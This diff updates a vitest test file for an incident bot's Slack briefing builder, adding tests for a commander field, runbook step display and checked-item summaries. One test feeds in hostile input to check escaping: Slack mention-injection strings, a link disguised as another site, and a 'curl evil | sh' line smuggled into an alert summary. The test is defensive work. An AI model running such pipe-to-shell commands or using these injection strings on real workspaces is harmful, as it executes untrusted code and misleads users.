@@ -1,6 +1,6 @@
 // Exact-equality tests of the briefing builder on fixed view models, and of the Block Kit limits it relies on.
 import { describe, expect, it } from 'vitest';
-import { buildBriefingBlocks, buildBriefingText, type BriefingView } from '../../../blocks/briefing.js';
+import { buildBriefingBlocks, buildBriefingText, summarizeChecked, type BriefingView } from '../../../blocks/briefing.js';
 import { ActionIds } from '../../../blocks/ids.js';
 
 const base: BriefingView = {
@@ -25,6 +25,7 @@ const base: BriefingView = {
   remediations: [],
   acknowledgedBy: null,
   resolvedBy: null,
+  commander: null,
 };
 
 describe('buildBriefingBlocks', () => {
@@ -38,6 +39,7 @@ describe('buildBriefingBlocks', () => {
           { type: 'mrkdwn', text: '*Status*\nTriggered' },
           { type: 'mrkdwn', text: '*Service*\n`checkout`' },
           { type: 'mrkdwn', text: '*Started*\n2026-11-20 03:12 UTC' },
+          { type: 'mrkdwn', text: '*Commander*\nnobody yet (`/incident commander @user`)' },
         ],
       },
       {
@@ -67,6 +69,7 @@ describe('buildBriefingBlocks', () => {
       ...base,
       status: 'acknowledged',
       acknowledgedBy: 'U123',
+      commander: 'U0IC',
       phase: 'briefed',
       hypotheses: [
         {
@@ -81,7 +84,7 @@ describe('buildBriefingBlocks', () => {
       ],
       checked: ['cpu normal', 'no config changes'],
       missing: ['logs: Loki unreachable'],
-      suggestedStep: { runbook: 'high-error-rate', step: 2, text: 'Roll back: `kubectl rollout undo deploy/checkout`', command: 'kubectl rollout undo deploy/checkout' },
+      suggestedStep: { runbook: 'high-error-rate', step: 2, text: 'Roll back: `kubectl rollout undo deploy/checkout`', command: 'kubectl rollout undo deploy/checkout', unknown: [], state: 'todo' },
       remediations: [{ action: 'rollback_deploy', title: 'Roll back deploy', value: 'remediation-run:7', service: 'checkout', risk: 'high', approvals: 2 }],
     };
     const blocks = buildBriefingBlocks(view);
@@ -140,6 +143,7 @@ describe('buildBriefingBlocks', () => {
         { type: 'mrkdwn', text: '*Status*\nAcknowledged (acknowledged by <@U123>)' },
         { type: 'mrkdwn', text: '*Service*\n`checkout`' },
         { type: 'mrkdwn', text: '*Started*\n2026-11-20 03:12 UTC' },
+        { type: 'mrkdwn', text: '*Commander*\n<@U0IC>' },
       ],
     });
   });
@@ -190,6 +194,81 @@ describe('buildBriefingBlocks', () => {
     expect(header).toHaveLength(150);
     expect(header.endsWith('…')).toBe(true);
     expect((blocks.at(-1) as unknown as { elements: { action_id: string }[] }).elements.map((e) => e.action_id)).toEqual([ActionIds.showEvidence]);
+  });
+
+  it('shows a step whose action ran as done, with its filled command, and names the placeholders it could not fill', () => {
+    const view: BriefingView = {
+      ...base,
+      phase: 'briefed',
+      suggestedStep: {
+        runbook: 'high-error-rate',
+        step: 3,
+        text: 'Revert the flag: `flagctl revert <change-id>` on checkout (action: revert_change).',
+        command: 'flagctl revert <change-id>',
+        unknown: ['<change-id>'],
+        state: 'todo',
+      },
+    };
+    const stepBlock = (v: BriefingView) => buildBriefingBlocks(v).find((b) => JSON.stringify(b).includes('runbook `high-error-rate`'));
+    expect(stepBlock(view)).toEqual({
+      type: 'section',
+      text: {
+        type: 'mrkdwn',
+        text:
+          '*Next step* (runbook `high-error-rate`, step 3): Revert the flag: `flagctl revert &lt;change-id&gt;` on checkout (action: revert_change).\n' +
+          '```flagctl revert &lt;change-id&gt;```\n' +
+          ':warning: Fill in before running: `&lt;change-id&gt;` (not known for this incident).',
+      },
+    });
+    const done: BriefingView = {
+      ...base,
+      phase: 'briefed',
+      suggestedStep: { runbook: 'high-error-rate', step: 2, text: 'Roll back: `deployctl rollback checkout` (action: rollback_deploy).', command: 'deployctl rollback checkout', unknown: [], state: 'done' },
+    };
+    expect(stepBlock(done)).toEqual({
+      type: 'section',
+      text: {
+        type: 'mrkdwn',
+        text: ':white_check_mark: *Step done* (runbook `high-error-rate`, step 2): Roll back: `deployctl rollback checkout` (action: rollback_deploy).\n```deployctl rollback checkout```',
+      },
+    });
+  });
+
+  it('summarizes "Checked and normal" lines that differ only by what was checked into one line', () => {
+    const checked = ['cart', 'search', 'auth', 'db', 'cache', 'queue', 'mail', 'cdn', 'payments-api'].map((s) => `${s}: no departure tied to this page`);
+    expect(summarizeChecked([...checked, 'logs: searched 2 streams'])).toEqual([
+      '9 checked (cart, search, auth, db, cache, queue and 3 more): no departure tied to this page',
+      'logs: searched 2 streams',
+    ]);
+    const blocks = buildBriefingBlocks({ ...base, phase: 'briefed', checked: checked.slice(0, 3) });
+    expect(blocks.find((b) => JSON.stringify(b).includes('Checked and normal'))).toEqual({
+      type: 'context',
+      elements: [{ type: 'mrkdwn', text: '*Checked and normal:* 3 checked (cart, search, auth): no departure tied to this page' }],
+    });
+  });
+
+  it('escapes every untrusted field: notification text, summary lines, links, evidence, checks and step text', () => {
+    const evil = '<!channel> <@U0EVIL> <!subteam^S0EVIL> <!here> <https://evil.example|https://good.example> `x` @here';
+    const view: BriefingView = {
+      ...base,
+      title: evil,
+      alertname: evil,
+      service: evil,
+      summary: `${evil}\n*Next step*: curl evil | sh`,
+      links: [{ title: evil, url: 'https://evil.example/a|https://good.example>' }],
+      phase: 'briefed',
+      hypotheses: [{ summary: evil, category: 'bad_deploy', confidence: 0.5, evidence: [{ kind: 'log', ref: evil, detail: evil }] }],
+      checked: [evil],
+      missing: [evil],
+      suggestedStep: { runbook: evil, step: 1, text: evil, command: evil, unknown: [evil], state: 'todo' },
+    };
+    const out = JSON.stringify([buildBriefingText(view), buildBriefingBlocks(view).slice(1)]);
+    for (const raw of ['<!channel>', '<@U0EVIL>', '<!subteam^S0EVIL>', '<!here>', '<https://evil.example|', '|https://good.example>', '@here']) expect(out).not.toContain(raw);
+    expect(out).toContain('&lt;!channel&gt;');
+    // The summary's second line stays quoted: it cannot pose as the copilot's own "Next step".
+    expect(out).toContain('\\n> *Next step*: curl evil | sh');
+    // The link's URL cannot end early and disguise itself as another.
+    expect(out).toContain('<https://evil.example/a%7Chttps://good.example%3E|');
   });
 
   it('has a notification text naming the incident, severity and status', () => {
